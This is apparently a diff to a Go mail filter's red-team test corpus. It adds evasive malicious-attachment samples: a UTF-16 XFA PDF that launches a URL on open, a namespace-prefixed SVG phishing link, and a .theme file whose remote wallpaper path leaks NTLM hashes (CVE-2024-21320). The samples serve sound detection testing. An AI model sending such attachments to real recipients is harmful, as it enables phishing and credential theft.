@@ -1,7 +1,10 @@
 package corpus
 
 import (
+	"strings"
+
 	"github.com/kensa-milter/kensa/internal/corpus/formats"
+	"github.com/kensa-milter/kensa/internal/cryptkeys"
 	"github.com/kensa-milter/kensa/policy"
 )
 
@@ -15,14 +18,18 @@ func redTeamSamples() []Sample {
 	// An XFA form (Adobe Reader and Acrobat lay it out and run its
 	// scripts) whose docReady event opens a page: no /JS or /JavaScript
 	// name anywhere, the template deflated.
-	xfa := func(more string) []byte {
+	xfaAs := func(enc func(string) string, more string) []byte {
 		template := `<?xml version="1.0" encoding="UTF-8"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">` +
 			`<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1" layout="tb">` +
 			`<pageSet><pageArea name="Page1"><contentArea x="0.25in" y="0.25in" w="8in" h="10.5in"/><medium stock="letter"/></pageArea></pageSet>` +
 			`<field name="InvoiceNo" w="3in" h="9mm"><ui><textEdit/></ui></field>` + more + `</subform></template></xdp:xdp>`
 		return formats.PDF("<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [] /XFA 4 0 R >> /NeedsRendering true >>",
 			"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", "<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] >>",
-			formats.PDFFlate("", template))
+			formats.PDFFlate("", enc(template)))
+	}
+	xfa := func(more string) []byte { return xfaAs(func(s string) string { return s }, more) }
+	utf16 := func(s string) string {
+		return string(cryptkeys.UTF16LE("\ufeff" + strings.Replace(s, `encoding="UTF-8"`, `encoding="UTF-16"`, 1)))
 	}
 	add(Sample{Name: "pdf-xfa-javascript", Action: policy.Tag,
 		About: "a PDF whose XFA form runs JavaScript as it opens in Adobe Reader (docReady: app.launchURL), with no /JS name",
@@ -30,6 +37,18 @@ func redTeamSamples() []Sample {
 		mail{from: "Accounts <accounts@northwind-traders.example.com>", subject: "Invoice 4471",
 			root: multipart("mixed", body, attach("application/pdf", "Invoice_4471.pdf",
 				xfa(`<event activity="docReady" ref="$host"><script contentType="application/x-javascript">app.launchURL("https://invoice-portal.example.net/view/4471", true);</script></event>`)))})
+	add(Sample{Name: "pdf-xfa-javascript-utf16", Action: policy.Tag,
+		About: "a PDF whose XFA form, written in UTF-16 as XML allows, runs JavaScript as it opens in Adobe Reader",
+		Want:  []Want{w("heuristic", "pdf-javascript", "2")}},
+		mail{from: "Accounts <accounts@northwind-traders.example.com>", subject: "Invoice 4472",
+			root: multipart("mixed", body, attach("application/pdf", "Invoice_4472.pdf",
+				xfaAs(utf16, `<event activity="initialize"><script contentType="application/x-javascript">app.launchURL("https://invoice-portal.example.net/view/4472", true);</script></event>`)))})
+	add(Sample{Name: "pdf-xfa-form-utf16", Clean: true,
+		About: "an honest XFA form written in UTF-16: fields and layout, no script"},
+		mail{from: "HR <hr@northwind-traders.example.com>", subject: "Leave request form",
+			root: multipart("mixed", text("Hello,\n\nthe leave request form is attached; fill it in Adobe Reader.\n\nHR\n"),
+				attach("application/pdf", "Leave_request.pdf", xfaAs(utf16, strings.Repeat(`<field name="Days" w="2in" h="9mm"><ui><numericEdit/></ui><caption><value><text>Days of leave</text></value></caption></field>`+
+					`<field name="From" w="3in" h="9mm"><ui><dateTimeEdit/></ui><caption><value><text>First day</text></value></caption></field>`, 3))))})
 	add(Sample{Name: "pdf-xfa-form-fields", Clean: true,
 		About: "an honest XFA form: fields and layout, no script"},
 		mail{from: "HR <hr@northwind-traders.example.com>", subject: "Travel expense form",
@@ -51,5 +70,26 @@ func redTeamSamples() []Sample {
 		mail{subject: "Our animated logo", root: multipart("mixed", text("Here is the animated logo for the web site.\n"), attach("image/svg+xml", "logo-animated.svg",
 			svg(`<a href="https://www.shop.example.com/"><circle cx="30" cy="30" r="25" fill="#e60"><animate attributeName="r" values="25;20;25" dur="2s" repeatCount="indefinite"/></circle>`+
 				`<text x="70" y="38">Example Shop</text></a>`)))})
+
+	// An SVG file is XML: <svg:a> with the prefix bound to SVG's
+	// namespace is a link Chromium follows, as xl:href is XLink's href.
+	add(Sample{Name: "svg-link-prefixed", Action: policy.Tag,
+		About: "an SVG button written with an svg: prefix on every element (<svg:a xl:href=...>), which Chromium reads as SVG and follows when clicked",
+		Want:  []Want{w("heuristic", "svg-link", "2")}},
+		mail{subject: "Shared file", root: multipart("mixed", text("Please see the attached file.\n"), attach("image/svg+xml", "Shared_File.svg",
+			[]byte(`<svg:svg xmlns:svg="http://www.w3.org/2000/svg" xmlns:xl="http://www.w3.org/1999/xlink" width="600" height="300"><svg:a xl:href="https://docs-view.example.net/d/7731">`+
+				`<svg:rect width="600" height="300" fill="#0078d4"/><svg:text x="200" y="160" fill="#fff" font-size="32">View document</svg:text></svg:a></svg:svg>`+"\r\n")))})
+	add(Sample{Name: "svg-badge-prefixed", Clean: true, About: "a company's SVG badge written with an svg: prefix, linking to its own site"},
+		mail{subject: "Badge for the partner page", root: multipart("mixed", text("The partner badge for your site is attached.\n"), attach("image/svg+xml", "partner-badge.svg",
+			[]byte(`<svg:svg xmlns:svg="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="120" height="40"><svg:a xlink:href="https://www.shop.example.com/partners">`+
+				`<svg:rect width="120" height="40" rx="6" fill="#222"/><svg:text x="10" y="26" fill="#fff">Partner</svg:text></svg:a></svg:svg>`+"\r\n")))})
+
+	// A .theme's wallpaper on a WebDAV share: Explorer loads it as it
+	// shows the file (CVE-2024-21320), sending the reader's NTLM hash.
+	add(Sample{Name: "theme-wallpaper-share", Action: policy.Quarantine,
+		About: "a Windows .theme whose wallpaper and visual style are on a share on the Internet, loaded as Explorer shows the file and as it is applied",
+		Want:  []Want{w("heuristic", "dangerous-shortcut", "2"), w("heuristic", "remote-fetch", "2")}},
+		mail{subject: "New corporate theme", root: multipart("mixed", text("Hello,\n\nplease apply the new corporate theme attached.\n\nIT\n"), attach("application/octet-stream", "Corporate.theme",
+			[]byte("[Theme]\r\nDisplayName=Corporate\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\branding.example.net@SSL\\DavWWWRoot\\wall.jpg\r\n[VisualStyles]\r\nPath=\\\\branding.example.net\\s\\aero.msstyles\r\n")))})
 	return out
 }
